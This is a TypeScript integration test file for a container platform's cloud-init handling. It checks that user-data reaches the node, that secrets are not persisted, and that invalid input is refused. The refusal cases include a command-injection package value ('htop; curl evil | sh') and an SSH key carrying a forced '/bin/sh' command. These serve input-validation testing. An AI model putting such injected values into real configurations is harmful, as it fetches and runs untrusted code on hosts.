import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { utils as sshUtils } from 'ssh2';
import { parse } from 'yaml';
import { Caller, codeOf } from '../support/client';
import { createAccount, createProject, signInAsAdmin, signInAsNewUser, unique } from '../support/factories';
import { FakeGateway } from '../support/fake-gateway';
import { forEachDatabase, startTestServer, type TestServer } from '../support/server';

const CREATE = `mutation($i: CreateContainerInput!) { createContainer(input: $i) { id name status operation { id action state } } }`;
const HASH = '$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1';

/**
 * createContainer's `cloudInit`, Corral's side, on both databases with LXD replaced by an
 * in-memory fake: what reaches the node's config, what Corral keeps, and refusals that leave
 * nothing behind. The first boot on a real Debian container is test/e2e/cloud-init.test.ts.
 */
forEachDatabase((TEST_DB) => {
  describe(`cloud-init user-data at create (${TEST_DB})`, () => {
    let server: TestServer;
    let fake: FakeGateway;
    let owner: Caller;
    let projectId: string;
    let imageId: string;
    const key = sshUtils.generateKeyPairSync('ed25519', { comment: 'alice@laptop' }).public;
    const keyBlob = key.split(' ')[1]!;

    before(async () => {
      const imageDir = fs.mkdtempSync(path.join(os.tmpdir(), 'corral-images-'));
      fs.writeFileSync(path.join(imageDir, 'tiny.tar.gz'), 'stand-in image');
      fake = new FakeGateway();
      fake.capacityOf = { cpuThreads: 8, memoryBytes: 16 * 1024 * 1024 * 1024, diskBytes: 100 * 1024 * 1024 * 1024 };
      server = await startTestServer(TEST_DB, { CORRAL_IMAGE_DIR: imageDir }, { gateway: fake });
      const admin = await signInAsAdmin(server.url);
      imageId = (await admin.ok(`{ images { edges { node { id } } } }`)).images.edges[0].node.id;
      const clusterId = (await admin.ok(`mutation { createCluster(input: { name: "main" }) { id } }`)).createCluster.id;
      await admin.ok(`mutation($c: ID!) { addNode(input: { clusterId: $c, name: "n1", url: "https://198.18.0.201:8443", secret: "fake-secret" }) { id } }`, { c: clusterId });
      const customer = await createAccount(admin, 'CUSTOMER');
      owner = (await signInAsNewUser(admin, customer.id, 'CUSTOMER_OWNER')).caller;
      projectId = (await createProject(owner, customer.id)).id;
    });
    after(() => server?.stop());

    const input = (name: string, cloudInit: unknown) => ({ i: { projectId, name, imageId, cpu: 1, memoryMiB: 128, diskMiB: 256, cloudInit } });
    const configOf = (name: string) => [...fake.configs.entries()].find(([k]) => k.endsWith(`/${name}`))?.[1].config;
    const count = async (table: string) => Number((await server.db.query(`SELECT COUNT(*) AS n FROM ${table}`))[0].n);

    test('the rendered cloud-config reaches the new instance as cloud-init.user-data, and Corral keeps no hash or key', async () => {
      const name = unique('ci');
      const res = await owner.gql(CREATE, input(name, {
        users: [{ name: 'alice', passwordHash: HASH, sshAuthorizedKeys: [key], sudo: true }],
        sshAuthorizedKeys: [key],
        packages: ['htop'],
      }));
      assert.equal(res.errors, undefined, JSON.stringify(res.errors));
      await server.services.runner.settled(res.data.createContainer.operation.id);
      const config = configOf(name);
      assert.ok(config, 'the instance was created');
      const userData = config['cloud-init.user-data']!;
      assert.ok(userData.startsWith('#cloud-config\n'));
      assert.deepEqual(parse(userData), {
        users: [{ name: 'alice', lock_passwd: false, hashed_passwd: HASH, ssh_authorized_keys: [key], sudo: 'ALL=(ALL) NOPASSWD:ALL' }],
        disable_root: false,
        ssh_authorized_keys: [key],
        packages: ['htop'],
      });
      assert.equal((await owner.ok(`query($id: ID!) { container(id: $id) { status } }`, { id: res.data.createContainer.id })).container.status, 'RUNNING');

      // The hash and the key went to the node only: not into any table, not back over GraphQL.
      const [row] = await server.db.query(`SELECT input FROM operations WHERE id = ${TEST_DB === 'postgres' ? '$1' : '?'}`, [res.data.createContainer.operation.id]);
      const stored = typeof row.input === 'string' ? JSON.parse(row.input) : row.input;
      assert.deepEqual(stored.cloudInit, { redacted: true, users: [{ name: 'alice', sudo: true, passwordHash: 'sent to the node', sshAuthorizedKeys: 1 }], sshAuthorizedKeys: 1, packages: ['htop'] });
      for (const table of ['operations', 'audit_events', 'containers']) {
        const dump = JSON.stringify(await server.db.query(`SELECT * FROM ${table}`));
        assert.ok(!dump.includes(HASH) && !dump.includes(keyBlob), `${table} holds neither the hash nor the key`);
      }
      assert.ok(!JSON.stringify(res.data).includes(HASH));
    });

    test('a create without cloudInit sets no user-data', async () => {
      const name = unique('plain');
      const res = await owner.gql(CREATE, input(name, null));
      await server.services.runner.settled(res.data.createContainer.operation.id);
      assert.ok(configOf(name), 'the instance was created');
      assert.equal(configOf(name)!['cloud-init.user-data'], undefined);
    });

    test('bad cloud-init input is BAD_USER_INPUT naming the field, and nothing is recorded or created', async () => {
      const failures = async () => Number((await server.db.query(`SELECT COUNT(*) AS n FROM audit_events WHERE action = 'container.create' AND outcome = 'FAILURE' AND "errorCode" = 'BAD_USER_INPUT'`))[0].n);
      const before = { containers: await count('containers'), operations: await count('operations'), instances: fake.instances.size, failures: await failures() };
      const cases: [unknown, string][] = [
        [{ users: [{ name: 'alice', passwordHash: 'correct horse battery staple' }] }, 'cloudInit.users.0.passwordHash'],
        [{ users: [{ name: 'alice' }, { name: 'Bob' }] }, 'cloudInit.users.1.name'],
        [{ users: [{ name: 'root', sshAuthorizedKeys: [key] }] }, 'cloudInit.users.0.name'],
        [{ users: [{ name: 'alice', sshAuthorizedKeys: [`command="/bin/sh" ${key}`] }] }, 'cloudInit.users.0.sshAuthorizedKeys.0'],
        [{ sshAuthorizedKeys: [key, 'ssh-ed25519 AAAAnotakey'] }, 'cloudInit.sshAuthorizedKeys.1'],
        [{ packages: ['htop', 'htop; curl evil | sh'] }, 'cloudInit.packages.1'],
        [{ users: Array.from({ length: 9 }, (_, i) => ({ name: `u${i}` })) }, 'cloudInit.users'],
      ];
      for (const [cloudInit, field] of cases) {
        const res = await owner.gql(CREATE, input(unique('bad'), cloudInit));
        assert.equal(codeOf(res), 'BAD_USER_INPUT', JSON.stringify(res.errors));
        assert.equal(res.errors?.[0]?.extensions?.field, field, JSON.stringify(res.errors));
      }
      // Each refusal is audited as a failure; nothing else changed.
      assert.deepEqual(
        { containers: await count('containers'), operations: await count('operations'), instances: fake.instances.size, failures: await failures() },
        { ...before, failures: before.failures + cases.length },
      );
    });
  });
});
